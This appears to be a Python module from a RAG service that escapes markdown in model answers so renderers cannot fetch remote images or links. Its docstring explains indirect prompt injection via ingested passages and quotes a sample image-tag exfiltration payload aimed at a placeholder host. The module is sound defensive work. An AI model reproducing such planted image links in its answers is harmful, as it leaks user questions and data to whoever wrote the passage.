"""Answer text as markdown that cannot make a viewer fetch anything: the one rule for every
front end that renders an answer (the chat UI, and API clients that render ``content``).

An answer repeats what the passages say, and a passage can be written by anyone who can write an
ingested folder. A planted ``![status](http://host/leak?d=QUESTION)`` copied into the answer is
the classic exfiltration channel of RAG: a markdown renderer turns it into an ``<img>`` and the
browser requests the URL, with whatever the model put in its query string, without a click.
So outside code, in the text a renderer sees:

- ``<`` is escaped (``&lt;``): no raw HTML (``<img src=…>``, ``<iframe>``), no autolink tag;
- ``!``, ``[`` and ``]`` are backslash-escaped: no image (inline, reference or shortcut), no
  link and no link reference definition can form. ``![x](http://…)`` is shown as those very
  characters, so the reader sees the target (and the data it would carry); a bare URL may still
  be made a link by the renderer (GFM autolinks), which is followed only when clicked.

Code (fenced blocks, inline code spans) is kept verbatim: renderers show it as text. A code span
opened by a backslash-escaped backtick is not code to a renderer, so it is treated as prose here
(escaped) rather than trusted. A fence the text leaves open is closed.

Why hand-written: markdown sanitisers (bleach, DOMPurify) work on the rendered HTML in the
viewer, which the server does not control; this works on the text, before any renderer, and keeps
the model's code blocks intact.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_FENCE_OPEN = re.compile(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})")  # matched against one line
FENCE_START = re.compile(r" {0,3}(?:`{3,}|~{3,})")
# An inline code span: a backtick string (not escaped by a backslash), then the same string
# again (within one paragraph).
_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)((?:(?!\n[ \t]*\n).)+?)(?<!`)\1(?!`)", re.DOTALL)
_ONLY_MARKERS = re.compile(r"\s*(?:\[\d+(?:\s*,\s*\d+)*\]\s*)+")
_FETCH_SYNTAX = re.compile(r"([!\[\]])")


def split_code(text: str) -> tuple[list[tuple[str, bool]], str]:
    """``text`` as (piece, is_code) pieces: fenced code blocks (``` or ~~~, to their closing
    fence or the end) and inline code spans are code. Also returns the fence left open at the
    end ("" when none). A code span holding only markers (`` `[1]` ``, the model's habit) is
    prose: the marker it wraps is a citation."""
    pieces: list[tuple[str, bool]] = []
    prose: list[str] = []
    code: list[str] = []
    fence = ""
    for line in text.splitlines(keepends=True):
        if fence:
            code.append(line)
            body = line.strip()
            indent = len(line) - len(line.lstrip(" "))
            if indent <= 3 and body and set(body) == {fence[0]} and len(body) >= len(fence):
                pieces.append(("".join(code), True))
                code, fence = [], ""
            continue
        m = _FENCE_OPEN.match(line.rstrip("\r\n"))
        if m:
            pieces.extend(_inline("".join(prose)))
            prose, code, fence = [], [line], m.group(1)
        else:
            prose.append(line)
    pieces.extend(_inline("".join(prose)))
    if code:
        pieces.append(("".join(code), True))
    return [p for p in pieces if p[0]], fence


def _inline(prose: str) -> Iterable[tuple[str, bool]]:
    pos = 0
    for m in _CODE_SPAN.finditer(prose):
        yield prose[pos : m.start()], False
        only_markers = _ONLY_MARKERS.fullmatch(m.group(2))
        yield (m.group(2).strip(), False) if only_markers else (m.group(0), True)
        pos = m.end()
    yield prose[pos:], False


def inert(prose: str) -> str:
    """Prose (no code in it) as markdown that shows the same characters but can open no tag and
    form no image or link (module docstring)."""
    return _FETCH_SYNTAX.sub(r"\\\1", prose.replace("<", "&lt;"))


def close_fence(markdown: str, fence: str) -> str:
    """``markdown`` with the code fence it left open (``fence``, "" for none) closed."""
    if not fence:
        return markdown
    return markdown + ("" if markdown.endswith("\n") else "\n") + fence


def inert_markdown(text: str) -> str:
    """All of ``text`` made inert: prose by :func:`inert`, code verbatim, an open fence closed.
    What a client that renders answers as markdown should show (docs/serving.md)."""
    pieces, fence = split_code(text)
    return close_fence("".join(p if code else inert(p) for p, code in pieces), fence)
